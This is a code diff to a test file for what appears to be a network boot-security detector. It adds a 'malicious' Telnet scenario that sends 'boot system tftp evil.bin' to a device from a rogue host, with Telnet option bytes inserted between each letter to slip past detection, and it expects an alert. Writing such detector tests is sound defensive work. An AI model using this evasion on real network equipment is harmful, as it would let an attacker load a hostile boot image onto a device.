@@ -9,6 +9,7 @@ from bootwarden.scenarios.sites import BOOT_SERVER as SERVER
 from bootwarden.scenarios.sites import CAMPUS, DEVICE, DHCP_SERVER, HQ, OUTSIDE, ROGUE
 from bootwarden.traffic import snmp, tftp
 from bootwarden.traffic.dhcp import Client, Options, addresses, bootstrap, encode, identified, pnp, suboptions
+from bootwarden.traffic.telnet import Telnet
 from bootwarden.traffic.wire import Wire
 
 RELAY = "10.0.1.254"
@@ -236,3 +237,21 @@ def bw17_long_requests(wire: Wire) -> None:
     asked = tftp.request(1, "../../boot.cfg", options={"x-filler": "a" * 600})
     wire.udp("10.0.6.6", 40000, SERVER, 69, asked)
     wire.udp("10.0.6.6", 40001, SERVER, 69, tftp.request(1, LONG))
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(alerts=(Alert(1542005070, "10.0.6.6", DEVICE),)),
+    site=HQ,
+    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, "evil.bin"),), (Alert(1542107000, "10.0.6.6", DEVICE),)),
+)
+def bw07_options_between_letters(wire: Wire) -> None:
+    """Telnet's own commands stand between the letters of a command: no operation, a terminal's type, a window's size."""
+    session = Telnet(wire, "10.0.6.6", DEVICE, prompt="edge1(config)#")
+    session.login()
+    between = (b"\xff\xf1", b"\xff\xfb\x18", b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
+    line = f"boot system tftp evil.bin {ROGUE}"
+    session.tcp.send(b"".join(c.encode() + between[n % 3] for n, c in enumerate(line)) + b"\r\0")
+    session.tcp.reply(f"{line}\r\nedge1(config)#".encode())
+    session.close()
